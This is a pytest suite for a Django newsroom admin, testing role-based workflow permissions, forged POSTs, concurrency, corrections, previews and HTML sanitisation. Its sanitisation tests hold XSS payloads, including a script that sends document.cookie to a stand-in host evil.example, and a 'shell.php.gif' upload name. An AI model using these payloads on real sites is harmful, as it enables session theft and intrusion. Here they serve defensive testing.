"""The editorial workflow through the admin, as editors use it and as a forged POST tries it."""

import datetime
import re

import pytest
from django.contrib.admin.models import LogEntry
from django.core import signing
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from reversion.models import Version

from articles.desk import workflow
from articles.desk.views import PREVIEW_SALT, preview_url
from articles.models import Article, Correction, EditingSession, Transition
from tests.factories import (
    EDITOR,
    REPORTER,
    ArticleFactory,
    PersonFactory,
    SectionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

S = Article.Status
TITLE = "Thủ tướng chủ trì hội nghị Chính phủ với địa phương"
SAPO = "Sáng 5/1, Thủ tướng Phạm Minh Chính chủ trì hội nghị trực tuyến toàn quốc."
BODY = "<p>Hội nghị kết nối trực tuyến với 63 tỉnh, thành phố trực thuộc Trung ương.</p>"


def client_for(client_class, user):
    client = client_class()
    client.force_login(user)
    return client


@pytest.fixture
def as_user(client):
    return lambda user: client_for(type(client), user)


def draft_by(user, **fields):
    article = Article(
        title=fields.pop("title", TITLE),
        sapo=SAPO,
        body=BODY,
        section=fields.pop("section", None) or SectionFactory(name="Thời sự"),
        byline="Nguyễn Thị Lan",
        **fields,
    )
    return workflow.article_create(article=article, by=user)


def in_state(state, reporter, editor, publisher):
    article = draft_by(reporter)
    if state == S.DRAFT:
        return article
    workflow.article_submit(article=article, by=reporter)
    if state == S.REVIEW:
        return article
    workflow.article_approve(article=article, by=editor)
    if state == S.APPROVED:
        return article
    workflow.article_publish(article=article, by=publisher)
    return article


def change_url(article):
    return reverse("admin:articles_article_change", args=[article.pk])


def action_url(article, action):
    return reverse("admin:articles_article_workflow", args=[article.pk, action])


def form_data(article, **overrides):
    """What the change form posts for ``article`` as it is now, plus ``overrides``."""
    data = {
        "title": article.title,
        "slug": article.slug,
        "section": article.section_id,
        "sapo": article.sapo,
        "body": article.body,
        "embargo_until_0": "",
        "embargo_until_1": "",
        "byline": article.byline,
        "source": article.source,
        "tags": ", ".join(article.tags.names()),
        "version": article.version,
        **empty_inlines(),
    }
    data.update(overrides)
    return data


def empty_inlines():
    """Management-form data for every inline on the article page, with no rows."""
    from django.contrib import admin
    from django.forms.models import _get_foreign_key

    data = {}
    for inline in admin.site._registry[Article].inlines:
        fk = _get_foreign_key(Article, inline.model, fk_name=inline.fk_name)
        prefix = fk.remote_field.get_accessor_name(model=inline.model).replace("+", "")
        data.update(
            {
                f"{prefix}-TOTAL_FORMS": "0",
                f"{prefix}-INITIAL_FORMS": "0",
                f"{prefix}-MIN_NUM_FORMS": "0",
                f"{prefix}-MAX_NUM_FORMS": "1000",
            }
        )
    return data


# --- Forbidden actions by direct POST ----------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "state", "action"),
    [
        (REPORTER, S.REVIEW, "approve"),
        (REPORTER, S.REVIEW, "send_back"),
        (REPORTER, S.APPROVED, "publish"),
        (REPORTER, S.APPROVED, "schedule"),
        (EDITOR, S.APPROVED, "publish"),
        (EDITOR, S.APPROVED, "schedule"),
        (EDITOR, S.PUBLISHED, "unpublish"),
    ],
)
def test_forbidden_workflow_post_is_refused(
    as_user, reporter, editor, publisher, role, state, action
):
    article = in_state(state, reporter, editor, publisher)
    user = {REPORTER: reporter, EDITOR: editor}[role]
    at = f"{timezone.localtime() + datetime.timedelta(hours=1):%Y-%m-%dT%H:%M}"
    response = as_user(user).post(action_url(article, action), {"comment": "Vượt quyền", "at": at})
    assert response.status_code == 403
    assert Article.objects.get(pk=article.pk).status == state
    assert not Transition.objects.filter(article=article, by=user, action=action).exists()


def test_reporter_cannot_touch_another_reporters_draft(as_user, reporter, other_reporter):
    article = draft_by(other_reporter)
    client = as_user(reporter)
    assert client.get(change_url(article)).status_code == 302  # "does not exist" for them
    client.post(change_url(article), form_data(article, title="Tiêu đề bị sửa trộm"))
    response = client.post(action_url(article, "submit"), {"comment": ""})
    assert response.status_code == 302
    article.refresh_from_db()
    assert article.title == TITLE and article.status == S.DRAFT
    listing = client.get(reverse("admin:articles_article_changelist"))
    assert TITLE not in listing.text


def test_reporter_cannot_edit_after_submitting_nor_forge_the_status(as_user, reporter):
    article = draft_by(reporter)
    client = as_user(reporter)
    response = client.post(
        change_url(article),
        form_data(article, status=S.PUBLISHED, published_at_0="01/01/2020", published_at_1="08:00"),
    )
    assert response.status_code == 302
    article.refresh_from_db()
    assert article.status == S.DRAFT and article.published_at is None
    workflow.article_submit(article=article, by=reporter)
    article.refresh_from_db()
    response = client.post(change_url(article), form_data(article, title="Sửa sau khi gửi"))
    assert response.status_code == 403
    assert Article.objects.get(pk=article.pk).title == TITLE


def test_editor_cannot_edit_a_published_story(as_user, reporter, editor, publisher):
    article = in_state(S.PUBLISHED, reporter, editor, publisher)
    response = as_user(editor).post(
        change_url(article), form_data(article, title="Sửa bài đã đăng", minor_edit="on")
    )
    assert response.status_code == 403
    assert Article.objects.get(pk=article.pk).title == TITLE


def test_reporter_cannot_delete_and_nobody_deletes_a_published_story(
    as_user, reporter, editor, publisher
):
    draft = draft_by(reporter)
    url = reverse("admin:articles_article_delete", args=[draft.pk])
    assert as_user(reporter).post(url, {"post": "yes"}).status_code == 403
    live = in_state(S.PUBLISHED, reporter, editor, publisher)
    url = reverse("admin:articles_article_delete", args=[live.pk])
    assert as_user(publisher).post(url, {"post": "yes"}).status_code == 403
    assert Article.objects.filter(pk__in=[draft.pk, live.pk]).count() == 2


def test_bulk_publish_is_not_offered_to_editors_and_a_forged_post_does_nothing(
    as_user, reporter, editor, publisher
):
    article = in_state(S.APPROVED, reporter, editor, publisher)
    client = as_user(editor)
    listing = client.get(reverse("admin:articles_article_changelist"))
    assert "publish_selected" not in listing.text
    client.post(
        reverse("admin:articles_article_changelist"),
        {"action": "publish_selected", "_selected_action": [article.pk]},
    )
    assert Article.objects.get(pk=article.pk).status == S.APPROVED


# --- Workflow buttons --------------------------------------------------------------------------


def test_buttons_walk_the_story_and_refusals_are_explained(as_user, reporter, editor, publisher):
    article = draft_by(reporter)
    reporter_page = as_user(reporter).get(change_url(article))
    assert "Gửi duyệt" in reporter_page.text and "Duyệt bài" not in reporter_page.text
    as_user(reporter).post(action_url(article, "submit"), {"comment": ""})
    assert Article.objects.get(pk=article.pk).status == S.REVIEW

    client = as_user(editor)
    response = client.post(action_url(article, "send_back"), {"comment": ""}, follow=True)
    assert "Hãy ghi rõ lý do" in response.text
    assert Article.objects.get(pk=article.pk).status == S.REVIEW
    client.post(
        action_url(article, "send_back"), {"comment": "Thiếu ý kiến chỉ đạo của Thủ tướng."}
    )
    assert Article.objects.get(pk=article.pk).status == S.SENT_BACK
    page = as_user(reporter).get(change_url(article))
    assert "Thiếu ý kiến chỉ đạo của Thủ tướng." in page.text

    as_user(reporter).post(action_url(article, "submit"), {"comment": "Đã bổ sung"})
    client.post(action_url(article, "approve"), {"comment": ""})
    at = timezone.localtime() + datetime.timedelta(hours=2)
    response = as_user(publisher).post(
        action_url(article, "schedule"),
        {"comment": "", "at": f"{at:%Y-%m-%dT%H:%M:%S}"},
        follow=True,
    )
    assert "Đã hẹn giờ đăng" in response.text
    article.refresh_from_db()
    assert article.status == S.PUBLISHED
    assert article.published_at == at.replace(microsecond=0)
    assert LogEntry.objects.filter(object_id=str(article.pk)).count() >= 5
    history_panel = as_user(publisher).get(change_url(article)).text
    for label in ("Tạo bài", "Gửi duyệt", "Trả lại", "Duyệt", "Hẹn giờ đăng"):
        assert label in history_panel


def test_changelist_marks_scheduled_and_embargoed_stories(as_user, publisher):
    now = timezone.now()
    ArticleFactory(
        title="Bài hẹn giờ đăng sáng mai", published_at=now + datetime.timedelta(hours=9)
    )
    ArticleFactory(title="Bài đang cấm đăng", embargo_until=now + datetime.timedelta(hours=2))
    ArticleFactory(title="Bài đang hiển thị")
    response = as_user(publisher).get(reverse("admin:articles_article_changelist"))
    text = response.text
    assert text.count("marker--scheduled") == 1 and "⏰ Hẹn giờ" in text
    assert text.count("marker--embargo") == 1 and "⛔ Cấm đăng đến" in text
    assert "● Đang hiển thị" in text
    scheduled = as_user(publisher).get(
        reverse("admin:articles_article_changelist") + "?hien-thi=hen-gio"
    )
    assert "Bài hẹn giờ đăng sáng mai" in scheduled.text
    assert "Bài đang hiển thị" not in scheduled.text


def test_changelist_query_count_does_not_grow_with_rows(
    as_user, publisher, django_assert_max_num_queries
):
    client = as_user(publisher)
    ArticleFactory.create_batch(3)
    url = reverse("admin:articles_article_changelist")
    client.get(url)
    with django_assert_max_num_queries(40) as few:
        client.get(url)
    ArticleFactory.create_batch(15)
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(url)


# --- Bulk actions ------------------------------------------------------------------------------


def test_bulk_publish_respects_state_and_leaves_an_audit_trail(
    as_user, reporter, editor, publisher
):
    ready = in_state(S.APPROVED, reporter, editor, publisher)
    not_ready = in_state(S.REVIEW, reporter, editor, publisher)
    response = as_user(publisher).post(
        reverse("admin:articles_article_changelist"),
        {"action": "publish_selected", "_selected_action": [ready.pk, not_ready.pk]},
        follow=True,
    )
    assert "Xuất bản: 1 bài." in response.text
    assert "Không thực hiện được" in response.text
    assert Article.objects.get(pk=ready.pk).status == S.PUBLISHED
    assert Article.objects.get(pk=not_ready.pk).status == S.REVIEW
    step = Transition.objects.get(article=ready, action=Transition.Action.PUBLISH)
    assert step.bulk and step.by == publisher
    assert LogEntry.objects.filter(
        object_id=str(ready.pk), change_message__contains="hàng loạt"
    ).exists()


def test_bulk_move_section_and_unpublish(as_user, reporter, editor, publisher):
    first = in_state(S.PUBLISHED, reporter, editor, publisher)
    second = in_state(S.DRAFT, reporter, editor, publisher)
    politics = SectionFactory(name="Chính trị")
    client = as_user(publisher)
    url = reverse("admin:articles_article_changelist")
    chooser = client.post(
        url, {"action": "move_to_section", "_selected_action": [first.pk, second.pk]}
    )
    assert "Chuyển sang chuyên mục" in chooser.text
    client.post(
        url,
        {
            "action": "move_to_section",
            "_selected_action": [first.pk, second.pk],
            "section": politics.pk,
        },
    )
    assert set(Article.objects.filter(section=politics).values_list("pk", flat=True)) == {
        first.pk,
        second.pk,
    }
    assert Transition.objects.filter(action="move_section", bulk=True).count() == 2
    client.post(url, {"action": "unpublish_selected", "_selected_action": [first.pk]})
    assert Article.objects.get(pk=first.pk).status == S.UNPUBLISHED


def test_reporter_bulk_move_only_reaches_own_drafts(as_user, reporter, other_reporter):
    own = draft_by(reporter)
    theirs = draft_by(other_reporter)
    politics = SectionFactory(name="Chính trị")
    as_user(reporter).post(
        reverse("admin:articles_article_changelist"),
        {
            "action": "move_to_section",
            "_selected_action": [own.pk, theirs.pk],
            "section": politics.pk,
        },
    )
    assert Article.objects.get(pk=own.pk).section == politics
    assert Article.objects.get(pk=theirs.pk).section != politics


# --- Optimistic concurrency and presence -------------------------------------------------------


def test_concurrent_save_is_refused_without_losing_what_was_typed(
    as_user, reporter, editor, second_editor
):
    article = draft_by(reporter)
    workflow.article_submit(article=article, by=reporter)
    article.refresh_from_db()
    first, second = as_user(editor), as_user(second_editor)
    first.get(change_url(article))
    page = second.get(change_url(article))
    assert "Đang mở bài này" in page.text and "Lê Văn Minh" in page.text

    response = first.post(change_url(article), form_data(article, sapo="Bản sapo của anh Minh."))
    assert response.status_code == 302
    typed = "Sáng 5/1, Thủ tướng chủ trì hội nghị: bản chị Yến gõ suốt nửa giờ."
    response = second.post(change_url(article), form_data(article, sapo=typed))
    assert response.status_code == 200
    assert "Lê Văn Minh" in response.text
    assert "sau khi bạn mở" in response.text
    assert typed in response.text, "what the second editor typed is still in the form"
    assert Article.objects.get(pk=article.pk).sapo == "Bản sapo của anh Minh."

    # The re-rendered form carries the current version: saving again is a conscious overwrite.
    version = re.search(r'name="version" value="(\d+)"', response.text).group(1)
    response = second.post(change_url(article), form_data(article, sapo=typed, version=version))
    assert response.status_code == 302
    assert Article.objects.get(pk=article.pk).sapo == typed


def test_presence_is_recorded_on_opening_and_shown_to_others_only(as_user, reporter, editor):
    article = draft_by(reporter)
    own = as_user(reporter).get(change_url(article))
    assert "Đang mở bài này" not in own.text
    assert EditingSession.objects.filter(article=article, user=reporter).exists()
    assert "Đang mở bài này" in as_user(editor).get(change_url(article)).text
    EditingSession.objects.filter(user=reporter).update(
        seen_at=timezone.now() - datetime.timedelta(hours=1)
    )
    assert "Đang mở bài này" not in as_user(editor).get(change_url(article)).text


# --- Corrections through the admin -------------------------------------------------------------


def test_changing_a_published_story_needs_a_correction_and_shows_it(
    as_user, client, reporter, editor, publisher
):
    article = in_state(S.PUBLISHED, reporter, editor, publisher)
    article.refresh_from_db()
    admin = as_user(publisher)
    new_title = "Thủ tướng chủ trì hội nghị Chính phủ với 63 địa phương"
    response = admin.post(change_url(article), form_data(article, title=new_title))
    assert response.status_code == 200
    assert "cần ghi đính chính" in response.text
    assert new_title in response.text
    assert Article.objects.get(pk=article.pk).title == TITLE

    note = "Bài đã bổ sung số địa phương tham dự vào tiêu đề."
    response = admin.post(
        change_url(article), form_data(article, title=new_title, correction_text=note)
    )
    assert response.status_code == 302
    assert Correction.objects.get(article=article).text == note
    public = client.get(article.get_absolute_url())
    assert new_title in public.text
    assert note in public.text
    listing = client.get(reverse("articles:corrections"))
    assert note in listing.text and new_title in listing.text


def test_hostile_html_posted_through_the_admin_is_stored_clean(as_user, reporter):
    article = draft_by(reporter)
    hostile = (
        '<p onclick="steal()">Nội dung <a href="javascript:alert(1)">xem</a>'
        '<img src=x onerror="alert(1)"></p><script>alert("xss")</script>'
        '<iframe src="https://evil.example"></iframe><object data="x.swf"></object>'
        '<svg onload="alert(1)"><circle r="4"/></svg><style>p{display:none}</style>'
        '<p class=MsoNormal style="margin:0"><span lang=VI style="font-size:13pt">Hà Nội'
        "<o:p></o:p></span></p>"
    )
    response = as_user(reporter).post(change_url(article), form_data(article, body=hostile))
    assert response.status_code == 302
    body = Article.objects.get(pk=article.pk).body
    for bad in ("script", "onclick", "onerror", "javascript:", "iframe", "object", "svg",
                "style", "class=", "o:p", "<span", "<img"):  # fmt: skip
        assert bad not in body, bad
    assert "Nội dung" in body and "Hà Nội" in body


# --- Revisions in the admin --------------------------------------------------------------------


def test_history_compares_two_revisions_and_restores_one(as_user, reporter, editor):
    article = draft_by(reporter)
    client = as_user(editor)
    client.post(
        change_url(article),
        form_data(article, body="<p>Hội nghị kết nối trực tuyến với 63 tỉnh, thành phố.</p>"),
    )
    article.refresh_from_db()
    history_url = reverse("admin:articles_article_history", args=[article.pk])
    history = client.get(history_url)
    assert history.status_code == 200
    newer, older = Version.objects.get_for_object(article).order_by("-pk")[:2]
    compared = client.get(history_url, {"tu": older.pk, "den": newer.pk})
    assert "<del>phố trực thuộc Trung ương.</del><ins>phố.</ins>" in compared.text

    restore_url = reverse("admin:articles_article_restore", args=[article.pk, older.pk])
    assert client.get(restore_url).status_code == 200
    response = client.post(restore_url, {"version": article.version})
    assert response.status_code == 302
    assert Article.objects.get(pk=article.pk).body == BODY
    assert Version.objects.get_for_object(article).count() == 3


def test_reversions_own_revert_url_cannot_roll_back_the_state(as_user, reporter, editor, publisher):
    article = in_state(S.PUBLISHED, reporter, editor, publisher)
    first = Version.objects.get_for_object(article).order_by("pk").first()
    as_user(publisher).post(f"{change_url(article)}../history/{first.pk}/", {})
    assert Article.objects.get(pk=article.pk).status == S.PUBLISHED


# --- Preview -----------------------------------------------------------------------------------


def test_preview_shows_an_unpublished_story_to_newsroom_staff_only(
    as_user, client, reporter, other_reporter, editor
):
    article = draft_by(reporter)
    url = preview_url(article)
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
    assert client.get(article.get_absolute_url()).status_code == 404

    response = as_user(editor).get(url)
    assert response.status_code == 200
    assert "articles/article_detail.html" in [t.name for t in response.templates]
    assert TITLE in response.text and "63 tỉnh, thành phố" in response.text
    assert response["X-Robots-Tag"] == "noindex, nofollow"
    assert response["Referrer-Policy"] == "no-referrer"
    assert response["X-Frame-Options"] == "DENY"
    assert "no-store" in response["Cache-Control"] or "max-age=0" in response["Cache-Control"]

    assert as_user(other_reporter).get(url).status_code == 404, "not their draft"
    tampered = url.replace("/xem-truoc/", "/xem-truoc/x")
    assert as_user(editor).get(tampered).status_code == 404
    forged = signing.dumps({"article": article.pk}, salt="another-site", compress=True)
    assert as_user(editor).get(f"/xem-truoc/{forged}/").status_code == 404


def test_preview_link_expires(as_user, settings, reporter, editor):
    article = draft_by(reporter)
    old = signing.TimestampSigner(salt=PREVIEW_SALT)
    token = signing.dumps({"article": article.pk}, salt=PREVIEW_SALT, compress=True)
    assert old  # the same signer family as the view
    settings.ARTICLE_PREVIEW_MAX_AGE = -1
    response = as_user(editor).get(reverse("articles:preview", args=[token]))
    assert response.status_code == 410
    assert "hết hạn" in response.text


# --- Rich text editor --------------------------------------------------------------------------


def test_body_uses_ckeditor5_in_vietnamese(as_user, reporter):
    article = draft_by(reporter)
    page = as_user(reporter).get(change_url(article)).text
    assert "django_ckeditor_5/dist/bundle.js" in page
    assert "django_ckeditor_5/dist/translations/vi.js" in page
    assert '"language": "vi"' in page


def test_no_upload_endpoint_through_the_editor(as_user, editor, tmp_path, settings):
    with pytest.raises(NoReverseMatch):
        reverse("ck_editor_5_upload_file")
    client = as_user(editor)
    image = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    from django.core.files.uploadedfile import SimpleUploadedFile

    for path in ("/ckeditor5/image_upload/", "/ckeditor/upload/"):
        upload = SimpleUploadedFile("a.gif", image, content_type="image/gif")
        assert client.post(path, {"upload": upload}).status_code == 404
    upload = SimpleUploadedFile("shell.php.gif", image, content_type="image/gif")
    refused = client.post(reverse("articles:editor_upload_refused"), {"upload": upload})
    assert refused.status_code == 403
    assert "Ảnh trong bài" in refused.json()["error"]["message"]
    media = settings.MEDIA_ROOT
    assert not media.exists() or not any(media.rglob("*"))


# --- Linking -----------------------------------------------------------------------------------


def test_officials_and_related_articles_are_picked_by_autocomplete(as_user, reporter, editor):
    article = draft_by(reporter)
    page = as_user(reporter).get(change_url(article)).text
    for field in ("officials", "resolutions", "related", "section"):
        assert re.search(rf'<select[^>]*name="{field}"[^>]*admin-autocomplete', page), field
    PersonFactory(full_name="Phạm Minh Chính")
    found = as_user(reporter).get(
        reverse("admin:autocomplete"),
        {
            "term": "pham minh",
            "app_label": "articles",
            "model_name": "article",
            "field_name": "officials",
        },
    )
    assert [r["text"] for r in found.json()["results"]] == ["Phạm Minh Chính"]
    ArticleFactory(title="Thủ tướng làm việc với tỉnh Quảng Ninh")
    draft_by(editor, title="Thủ tướng: bản nháp của người khác")
    related = as_user(reporter).get(
        reverse("admin:autocomplete"),
        {"term": "Thủ tướng", "app_label": "articles", "model_name": "article",
         "field_name": "related"},
    )  # fmt: skip
    titles = {r["text"] for r in related.json()["results"]}
    assert "Thủ tướng làm việc với tỉnh Quảng Ninh" in titles
    assert "Thủ tướng: bản nháp của người khác" not in titles


HOSTILE_PAGE = """<!doctype html><html><head><title>Tin nóng</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>.x{background:url(javascript:alert(1))}</style></head><body>
<article><h1>Quốc hội khai mạc kỳ họp thứ 8</h1>
<p class="MsoNormal" onmouseover="alert(1)">Sáng 21/10, Quốc hội khóa XV khai mạc kỳ họp thứ 8
tại Nhà Quốc hội.<o:p></o:p></p>
<p><a href="javascript:alert(1)">Xem thêm</a><img src=x onerror="alert(1)">
<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"></svg></p>
<p>Kỳ họp dự kiến kéo dài 29,5 ngày làm việc.</p></article></body></html>"""


def _assert_no_active_content(body):
    lowered = body.lower()
    for tag in ("<script", "<style", "<iframe", "<object", "<svg", "<img", "<o:p"):
        assert tag not in lowered, tag
    assert not re.search(r"<[^>]+\son\w+\s*=", lowered), "event handler attribute"
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", lowered)
    assert "class=" not in lowered and "style=" not in lowered


def test_hostile_html_through_the_orm_is_stored_clean():
    article = Article.objects.create(
        title="Tin có mã độc",
        section=SectionFactory(),
        body=HOSTILE_PAGE,
        status=S.DRAFT,
    )
    article.refresh_from_db()
    _assert_no_active_content(article.body)
    assert "Sáng 21/10" in article.body and "29,5 ngày làm việc" in article.body


def test_hostile_html_through_the_wire_importer_is_stored_clean():
    from articles.wire.read import parse, story_body_html

    story = parse(HOSTILE_PAGE.encode(), name="tin-nong.html")
    article = Article(
        title=story.title or "Tin nhập",
        sapo=story.sapo,
        body=story_body_html(story),
        section=SectionFactory(),
        status=S.DRAFT,
    )
    article.save()
    article.refresh_from_db()
    _assert_no_active_content(article.body)
    assert "29,5 ngày làm việc" in article.body


def test_corrections_admin_adds_through_the_service_and_keeps_text_fixed(
    as_user, reporter, editor, publisher
):
    live = in_state(S.PUBLISHED, reporter, editor, publisher)
    draft = draft_by(reporter, title="Bản nháp chưa đăng")
    add_url = reverse("admin:articles_correction_add")
    note = "Bài đã sửa ngày khai mạc hội nghị: 5/1, không phải 6/1."
    assert as_user(editor).post(add_url, {"article": live.pk, "text": note}).status_code == 403
    refused = as_user(publisher).post(add_url, {"article": draft.pk, "text": note, "public": "on"})
    assert "Chỉ ghi đính chính cho bài đã đăng." in refused.text
    response = as_user(publisher).post(add_url, {"article": live.pk, "text": note, "public": "on"})
    assert response.status_code == 302
    correction = Correction.objects.get()
    assert correction.article == live and correction.created_by == publisher
    assert Transition.objects.filter(article=live, action="correct", comment=note).exists()

    change_url_ = reverse("admin:articles_correction_change", args=[correction.pk])
    as_user(publisher).post(change_url_, {"text": "Sửa lén nội dung đính chính"})
    correction.refresh_from_db()
    assert correction.text == note and not correction.public  # only the public flag changes


def test_editor_links_the_officials_and_resolutions_the_text_mentions(as_user, reporter, editor):
    from tests.factories import PositionFactory, ResolutionFactory

    chinh = PositionFactory(person__full_name="Phạm Minh Chính", title="Thủ tướng Chính phủ").person
    PersonFactory(full_name="Trần Thanh Mẫn")  # not in the text
    resolution = ResolutionFactory(number="57-NQ/TW", title="Về đột phá phát triển khoa học")
    article = draft_by(reporter)
    article.body = (
        "<p>Thủ tướng Phạm Minh Chính yêu cầu triển khai quyết liệt Nghị quyết số 57-NQ/TW "
        "của Bộ Chính trị.</p>"
    )
    article.save()
    url = reverse("admin:articles_article_links", args=[article.pk])
    client = as_user(editor)
    page = client.get(url)
    assert "Phạm Minh Chính" in page.text and "57-NQ/TW" in page.text
    assert "Trần Thanh Mẫn" not in page.text
    response = client.post(url, {"nv": [chinh.pk], "vb": [resolution.pk]})
    assert response.status_code == 302
    assert list(article.officials.all()) == [chinh]
    assert list(article.resolutions.all()) == [resolution]
    nothing_left = "Không có nhân vật nào trong dữ liệu được nhắc đến mà chưa liên kết."
    assert nothing_left in client.get(url).text
    assert as_user(UserFactory(username="pv.khac", role=REPORTER)).get(url).status_code in (
        302,
        403,
    )
